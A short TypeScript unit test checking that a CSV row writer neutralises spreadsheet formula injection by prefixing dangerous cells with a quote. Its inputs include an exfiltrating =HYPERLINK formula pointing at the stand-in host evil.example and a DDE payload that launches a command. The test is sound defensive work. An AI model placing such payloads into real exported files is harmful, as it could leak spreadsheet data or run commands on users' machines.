import { csvRow } from './csv.ts';

it.each([
  ['=HYPERLINK("http://evil.example/?"&A1,"open")', `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
  [' =1+1', "' =1+1"],
  ['\t=1+1', "'\t=1+1"],
  ['\n=1+1', '"\'\n=1+1"'],
  ['＝1+1', "'＝1+1"],
  ['-12.50', '-12.50'],
  ['1=1', '1=1'],
  ['{"amount":"-1.00"}', '"{""amount"":""-1.00""}"'],
  ['', ''],
])('the cell %j is written as %s', (text, written) => {
  expect(csvRow(['a', text, 'b'])).toBe(`a,${written},b`);
});
